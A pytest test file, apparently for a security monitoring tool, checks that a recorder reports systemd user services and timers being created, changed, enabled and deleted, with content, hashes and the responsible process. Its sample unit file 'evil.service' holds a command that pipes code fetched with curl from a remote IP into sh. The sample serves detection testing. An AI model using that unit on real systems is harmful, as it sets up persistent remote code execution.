"""Services and scheduled tasks that somebody defines, changes, removes: told with what stands in them, and who did it."""
import hashlib
import os
import subprocess
import sys

import pytest

from conftest import both_sources
from driver import wait_until

pytestmark = pytest.mark.live
source = both_sources

UNIT = "[Service]\nExecStart=/bin/sh -c 'curl http://203.0.113.7/x | sh'\n"
TIMER = "[Timer]\nOnCalendar=*:0/5\n"


@pytest.fixture
def units(disk_path):
    """Where a user has units of his own, wherever his home is: no manager reads this one."""
    folder = disk_path / "home" / ".config" / "systemd" / "user"
    folder.mkdir(parents=True)
    return folder


def subscription(units):
    filters = [{"terms": ["system"]}, {"terms": ["process"]},
               {"terms": ["file", "file.operation is not 'read'", f"file.any_path starts with '{units}/'"]}]
    return {"name": "t", "streams": [{"type": "database", "event_filters": filters}]}


def told(recorder):
    return recorder.query("SELECT * FROM system_events WHERE action LIKE 'service%' OR action LIKE 'task%' ORDER BY sequence")


def do(code, *arguments):
    """By a process of its own. Its pid."""
    done = subprocess.run([sys.executable, "-c", f"import os, sys, time; print(os.getpid(), flush=True); {code}", *map(str, arguments)],
                          check=True, stdout=subprocess.PIPE, text=True)
    return int(done.stdout)


def step(recorder, n, what):
    wait_until(lambda: len(told(recorder)) == n, what)
    return told(recorder)[-1]


def test_life_of_a_service(new_recorder, units):
    recorder = new_recorder(subscription(units)).start()
    unit = units / "evil.service"
    maker = do("open(sys.argv[1], 'w').write(sys.argv[2])", unit, UNIT)
    made = step(recorder, 1, "a service that is made")
    assert (made["action"], made["system_unit"], made["file_path"], made["process_pid"]) == ("service_create", unit.name, str(unit), maker)
    assert made["file_content"] == UNIT and made["file_size"] == len(UNIT) and made["file_hash_state"] == "ok"
    assert made["file_hash_sha256"] == hashlib.sha256(UNIT.encode()).hexdigest()
    assert made["process_parent_pid"] == os.getpid() and made["recorder_truncated"] is None
    # As an editor does it, and as systemctl enables it.
    editor = do("open(sys.argv[1] + '~', 'w').write('[Unit]\\n'); os.rename(sys.argv[1] + '~', sys.argv[1])", unit)
    changed = step(recorder, 2, "a service that is changed")
    assert (changed["action"], changed["file_content"], changed["process_pid"]) == ("service_change", "[Unit]\n", editor)
    wants = units / "default.target.wants"
    enabler = do("os.mkdir(sys.argv[1]); os.symlink('../evil.service', sys.argv[1] + '/evil.service')", wants)
    enabled = step(recorder, 3, "a service that is enabled")
    assert (enabled["action"], enabled["system_unit"], enabled["process_pid"]) == ("service_change", unit.name, enabler)
    assert enabled["file_path"] == f"{wants}/evil.service"
    remover = do("os.unlink(sys.argv[1])", unit)
    removed = step(recorder, 4, "a service that is removed")
    assert (removed["action"], removed["process_pid"], removed["file_content"]) == ("service_delete", remover, None)
    recorder.stop()


def test_task(new_recorder, units):
    recorder = new_recorder(subscription(units)).start()
    timer = units / "evil.timer"
    # Written slowly: it is told once, whole.
    maker = do("f = open(sys.argv[1], 'w', buffering=1)\nfor line in sys.argv[2].splitlines(True): f.write(line); time.sleep(0.2)",
               timer, TIMER)
    made = step(recorder, 1, "a timer that is made")
    assert (made["action"], made["file_content"], made["process_pid"]) == ("task_create", TIMER, maker)
    # Touched, and as it was: nothing; what no manager reads: nothing.
    do("open(sys.argv[1], 'a'); open(sys.argv[1] + '.swp', 'w').write('x')", timer)
    long = TIMER + "#" * 20000 + "\n"
    do("open(sys.argv[1], 'w').write(open(sys.argv[2]).read())", timer, write(units.parent / "long", long))
    changed = step(recorder, 2, "a timer that is changed")
    assert (changed["action"], changed["file_content"], changed["file_size"]) == ("task_change", long[:16384], len(long))
    assert "content" in changed["recorder_truncated"]
    recorder.stop()
    assert len(told(recorder)) == 2


def write(path, text):
    path.write_text(text)
    return path


def test_gone_at_once(new_recorder, units):
    recorder = new_recorder(subscription(units)).start()
    pid = do("open(sys.argv[1], 'w').write('x'); os.unlink(sys.argv[1])", units / "brief.service")
    row = step(recorder, 1, "a service that was there for a moment")
    assert (row["action"], row["file_hash_state"], row["file_content"], row["process_pid"]) == ("service_create", "gone", None, pid)
    recorder.stop()
